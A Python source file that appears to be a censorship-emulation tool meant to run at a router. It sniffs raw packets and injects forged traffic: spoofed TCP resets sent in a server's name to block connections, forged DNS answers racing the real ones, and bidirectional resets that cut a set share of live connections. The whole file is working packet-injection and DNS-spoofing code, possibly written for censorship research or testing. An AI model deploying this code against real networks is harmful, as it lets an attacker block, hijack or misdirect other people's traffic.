"""A box that speaks in a server's name. Run as `injector.py JSON`, at the router.

It hears SYNs to one service on the clients' side and answers each with RST and ACK from the
server's address, with a hop count of its own and without DF, as measured from such boxes. Of DNS
(port 53) it answers each query with an address of its own, beside the server's true answer.
With a `share`, it hears requests on open connections instead, and resets that share of them, to the
client in the server's name and to the server in the client's.
"""

import json
import random
import socket
import struct
import sys

import dnswire
from flood import ip_header, transport

ETH_P_IP = 0x0800


def reset_for(data, order, ttl, rng):
    """The RST for an IPv4 packet that is a SYN to the service, or None."""
    head = (data[0] & 15) * 4
    if data[9] != 6 or len(data) < head + 20:
        return None
    source, target = (socket.inet_ntoa(data[at:at + 4]) for at in (12, 16))
    sport, dport, seq = struct.unpack_from(">HHI", data, head)
    if target != order["target"] or dport != order["port"] or data[head + 13] & 0x12 != 2:
        return None
    answered = (seq + 1) & 0xffffffff
    segment = struct.pack(">HHIIBBHHH", dport, sport, 0, answered, 0x50, 0x14, 0, 0, 0)
    segment = transport(target, source, 6, segment, 16)
    head = ip_header(target, source, 6, len(segment), rng.randrange(1, 65536), ttl)
    return source, head + segment


def forged_answer(data, order, ttl, rng):
    """The false answer for an IPv4 packet that is a query to the service, or None."""
    head = (data[0] & 15) * 4
    if data[9] != 17 or len(data) < head + 20:
        return None
    source, target = (socket.inet_ntoa(data[at:at + 4]) for at in (12, 16))
    sport, dport = struct.unpack_from(">HH", data, head)
    if target != order["target"] or dport != order["port"]:
        return None
    try:
        body = dnswire.answer(data[head + 8:], 0, ["198.18.66.6"], ttl=rng.choice((30, 60, 120)),
                              authoritative=False)
    except ValueError:
        return None
    segment = struct.pack(">HHHH", dport, sport, 8 + len(body), 0) + body
    segment = transport(target, source, 17, segment, 6)
    head = ip_header(target, source, 17, len(segment), rng.randrange(1, 65536), ttl)
    return source, head + segment


def segment(ends, sequence, acknowledgment, ttl, rng):
    """A RST from the first of two ends (address, port) to the second."""
    (source, sport), (target, dport) = ends
    data = struct.pack(">HHIIBBHHH", sport, dport, sequence, acknowledgment, 0x50, 0x14, 0, 0, 0)
    data = transport(source, target, 6, data, 16)
    return target, ip_header(source, target, 6, len(data), rng.randrange(1, 65536), ttl) + data


def cuts_for(data, order, ttl, rng):
    """The two RSTs for a packet with data to the service; none for most."""
    head = (data[0] & 15) * 4
    if data[9] != 6 or len(data) < head + 20:
        return []
    source, target = (socket.inet_ntoa(data[at:at + 4]) for at in (12, 16))
    sport, dport, sequence, acked = struct.unpack_from(">HHII", data, head)
    size = struct.unpack_from(">H", data, 2)[0] - head - (data[head + 12] >> 4) * 4
    if target != order["target"] or dport != order["port"] or size < 1 or data[head + 13] & 7 \
            or rng.random() >= order["share"]:
        return []
    client, server = (source, sport), (target, dport)
    behind = (sequence + size) & 0xffffffff
    return [segment((server, client), acked, behind, ttl, rng),
            segment((client, server), behind, acked, ttl, rng)]


def main():
    order = json.loads(sys.argv[1])
    rng = random.Random(order["seed"])
    ttl = rng.choice((255, 128, 200, 48))
    heard = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    heard.bind((order["device"], ETH_P_IP))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while True:
        data = heard.recv(65536)
        if len(data) <= 20 or data[0] >> 4 != 4:
            continue
        if "share" in order:
            answers = cuts_for(data, order, ttl, rng)
        else:
            make = forged_answer if order["port"] == 53 else reset_for
            answers = [make(data, order, ttl, rng)]
        for target, packet in filter(None, answers):
            out.sendto(packet, (target, 0))


if __name__ == "__main__":
    main()
